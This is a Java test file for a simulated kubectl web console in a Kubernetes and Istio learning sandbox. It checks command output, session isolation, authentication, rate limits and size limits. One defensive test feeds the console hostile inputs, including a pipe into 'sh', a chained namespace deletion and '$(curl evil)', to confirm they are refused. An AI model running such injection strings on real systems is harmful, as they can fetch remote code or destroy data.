package io.meshdojo.sandbox.console;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.meshdojo.sandbox.Kubectl;
import io.meshdojo.sandbox.console.ConsoleClient.Ran;
import io.meshdojo.sandbox.console.ConsoleClient.Terminal;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.WebSocketHandshakeException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;

/** The terminal's WebSocket on an embedded sandbox, driven like the lab page drives it. */
@QuarkusTest
class ConsoleSocketTest {

  private static final ObjectMapper JSON = new ObjectMapper();

  private static final long WAIT_SECONDS = ConsoleClient.WAIT_SECONDS;

  @TestHTTPResource("/")
  URL root;

  private Terminal connect(String user, String session, String lang) throws Exception {
    return ConsoleClient.connect(root, user, session, lang);
  }

  /** A terminal on a new learner's new session, past its greeting. */
  private Terminal greetedTerminal() throws Exception {
    String user = Kubectl.newLearner();
    Terminal t = connect(user, startSession(user), "en");
    t.next();
    return t;
  }

  private static String startSession(String user) {
    return Kubectl.startSession(user, "request-routing");
  }

  @Test
  void getDescribeApplyDeleteAndExplainLikeKubectl() throws Exception {
    String user = Kubectl.newLearner();
    String session = startSession(user);
    Terminal t = connect(user, session, "en");
    JsonNode hello = t.next();
    assertThat(hello.path("type").asText()).isEqualTo("hello");
    assertThat(hello.path("mode").asText()).isEqualTo("restricted");
    assertThat(hello.path("text").asText()).contains("Type help");

    Ran pods = t.run("kubectl get pods -n bookinfo", null);
    assertThat(pods.code()).isZero();
    assertThat(pods.text())
        .startsWith("NAME")
        .contains("READY   STATUS")
        .contains("productpage-v1-");

    Ran none = t.run("k get virtualservices -A", null);
    assertThat(none).isEqualTo(new Ran("No resources found\n", 0));
    assertThat(t.run("get vs", null))
        .isEqualTo(new Ran("No resources found in bookinfo namespace.\n", 0));

    String solution =
        Files.readString(Path.of("labs/request-routing/solution/reviews-routing.yaml"));
    Ran applied = t.run("kubectl apply -f -", solution);
    assertThat(applied)
        .isEqualTo(
            new Ran(
                "destinationrule.networking.istio.io/reviews created\n"
                    + "virtualservice.networking.istio.io/reviews created\n",
                0));

    Ran all = t.run("kubectl get virtualservices -A", null);
    assertThat(all.code()).isZero();
    List<String> lines = all.text().lines().toList();
    assertThat(lines).hasSize(2);
    assertThat(lines.get(0)).matches("NAMESPACE +NAME +GATEWAYS +HOSTS +AGE");
    assertThat(lines.get(1)).matches("bookinfo +reviews +\\[\"reviews\"\\] +\\d+s");

    Ran described = t.run("kubectl describe vs reviews -n bookinfo", null);
    assertThat(described.code()).isZero();
    assertThat(described.text())
        .startsWith("Name:         reviews\nNamespace:    bookinfo\n")
        .contains("Kind:         VirtualService\n")
        .contains("Spec:\n  Hosts:\n    reviews\n")
        .endsWith("Events:       <none>\n");

    Ran yaml = t.run("get dr/reviews -n bookinfo -o yaml", null);
    assertThat(yaml.text())
        .startsWith("apiVersion: networking.istio.io/v1\nkind: DestinationRule\n");
    assertThat(t.run("get dr,vs -n bookinfo -o name", null).text())
        .isEqualTo(
            "destinationrule.networking.istio.io/reviews\n"
                + "virtualservice.networking.istio.io/reviews\n");

    Ran deleted = t.run("kubectl delete vs reviews -n bookinfo", null);
    assertThat(deleted)
        .isEqualTo(new Ran("virtualservice.networking.istio.io \"reviews\" deleted\n", 0));
    assertThat(t.run("kubectl get vs reviews -n bookinfo", null))
        .isEqualTo(
            new Ran(
                "Error from server (NotFound): virtualservices.networking.istio.io \"reviews\" not"
                    + " found\n",
                1));
    assertThat(t.run("kubectl delete -f -", solution))
        .isEqualTo(
            new Ran(
                "destinationrule.networking.istio.io/reviews deleted\n"
                    + "error: virtualservices.networking.istio.io \"reviews\" not found (line 22)\n",
                1));

    assertThat(t.run("kubectl explain vs.spec.hosts", null).text())
        .contains("KIND:       VirtualService\n")
        .contains("FIELD: hosts <[]string>\n");
    assertThat(t.run("kubectl get vs reviews -A", null))
        .isEqualTo(
            new Ran("error: a resource cannot be retrieved by name across all namespaces\n", 1));
    assertThat(t.run("kubectl get frobs", null))
        .isEqualTo(new Ran("error: the server doesn't have a resource type \"frobs\"\n", 1));
    assertThat(t.run("kubectl get pods --frobnicate", null))
        .isEqualTo(
            new Ran(
                "error: unknown flag: --frobnicate\nType help for the commands this console"
                    + " knows.\n",
                1));
    assertThat(t.run("clear", null)).isEqualTo(new Ran("<clear>", 0));
  }

  @Test
  void shellFeaturesAreRefusedAndNothingRuns() throws Exception {
    Terminal t = greetedTerminal();
    // A pipe goes into the simulated text filters only: grep, sort, uniq… never a program.
    Ran piped = t.run("kubectl get pods -n bookinfo | grep reviews-v2 | wc -l", null);
    assertThat(piped).isEqualTo(new Ran("1\n", 0));
    Ran intoShell = t.run("kubectl get pods -n bookinfo | sh", null);
    assertThat(intoShell).isEqualTo(new Ran("sh: 1: sh: not found\n", 127));
    Ran chained = t.run("kubectl delete ns bookinfo; kubectl get ns", null);
    assertThat(chained.text()).startsWith("This console is not a shell: ; is not supported.");
    assertThat(chained.code()).isEqualTo(1);
    // The namespace the chained line named is still there.
    assertThat(t.run("kubectl get ns bookinfo -o name", null))
        .isEqualTo(new Ran("namespace/bookinfo\n", 0));
    assertThat(t.run("$(curl evil)", null).text()).contains("$(");
  }

  @Test
  void speaksChineseWhenThePageDoes() throws Exception {
    String user = Kubectl.newLearner();
    String session = startSession(user);
    Terminal t = connect(user, session, "zh");
    assertThat(t.next().path("text").asText()).startsWith("Mesh Dojo 控制台");
    assertThat(t.run("help", null).text()).startsWith("kubectl 命令（开头的 kubectl 或 k 可以省略");
    assertThat(t.run("kubectl exec -it reviews -- sh", null).text())
        .startsWith("kubectl exec -i/-t 需要交互式终端");
    assertThat(t.run("kubectl port-forward svc/x 8080", null).text())
        .startsWith("这个控制台不提供 kubectl port-forward");
  }

  @Test
  void someoneElsesSessionIsClosedAsIfItDidNotExist() throws Exception {
    String owner = Kubectl.newLearner();
    String session = startSession(owner);
    String other = Kubectl.newLearner();

    Terminal intruder = connect(other, session, "en");
    assertThat(intruder.closed.get(WAIT_SECONDS, TimeUnit.SECONDS))
        .isEqualTo("4404 No session '" + session + "'");
    assertThat(intruder.frames).isEmpty();

    Terminal missing = connect(other, "no-such-session", "en");
    assertThat(missing.closed.get(WAIT_SECONDS, TimeUnit.SECONDS))
        .isEqualTo("4404 No session 'no-such-session'");
  }

  @Test
  void withoutCredentialsTheUpgradeIsRefused() {
    URI uri = URI.create(root.toString().replaceFirst("^http", "ws") + "api/sessions/x/console");
    assertThatThrownBy(
            () ->
                HttpClient.newHttpClient()
                    .newWebSocketBuilder()
                    .buildAsync(uri, new Terminal())
                    .get(WAIT_SECONDS, TimeUnit.SECONDS))
        .isInstanceOf(ExecutionException.class)
        .cause()
        .isInstanceOfSatisfying(
            WebSocketHandshakeException.class,
            e -> assertThat(e.getResponse().statusCode()).isEqualTo(401));
  }

  @Test
  void aFloodOfMessagesIsSlowedAndUnreadableOnesAreAnswered() throws Exception {
    Terminal t = greetedTerminal();
    t.socket.sendText("not json", true).get(WAIT_SECONDS, TimeUnit.SECONDS);
    JsonNode answer = t.next();
    assertThat(answer.path("type").asText()).isEqualTo("error");
    assertThat(answer.path("text").asText())
        .isEqualTo("Type help for the commands this console knows.");
    // The test profile allows 20 messages a second; 100 sent at once cannot all be taken.
    for (int i = 0; i < 100; i++) {
      t.socket.sendText("{}", true).get(WAIT_SECONDS, TimeUnit.SECONDS);
    }
    boolean slowed = false;
    for (int i = 0; i < 100 && !slowed; i++) {
      slowed =
          t.next().path("text").asText().equals("Too many messages at once: slow down a little.");
    }
    assertThat(slowed).isTrue();
  }

  @Test
  void largeMessagesAreTakenUpToTheLimitAndAnsweredBeyondIt() throws Exception {
    Terminal t = greetedTerminal();
    // 100 KiB of editor text: over the old 64 KiB frame limit, within the documented 2 MiB, and
    // small enough that the object with its last-applied annotation stays within 256 KiB
    String yaml =
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big, namespace: bookinfo}\ndata:\n  x: "
            + "a".repeat(100 * 1024)
            + "\n";
    Ran applied = t.run("kubectl apply -f -", yaml);
    assertThat(applied).isEqualTo(new Ran("configmap/big created\n", 0));

    String tooLarge =
        JSON.writeValueAsString(
            Map.of("type", "command", "line", "apply -f -", "stdin", "b".repeat(3 * 1024 * 1024)));
    t.socket.sendText(tooLarge, true).get(WAIT_SECONDS, TimeUnit.SECONDS);
    JsonNode answer = t.next();
    assertThat(answer.path("type").asText()).isEqualTo("error");
    assertThat(answer.path("text").asText())
        .isEqualTo("The message is larger than 2048 KiB, so nothing was run.");
    assertThat(t.closed).isNotDone();
    assertThat(t.run("get configmap big -o name", null)).isEqualTo(new Ran("configmap/big\n", 0));
  }
}
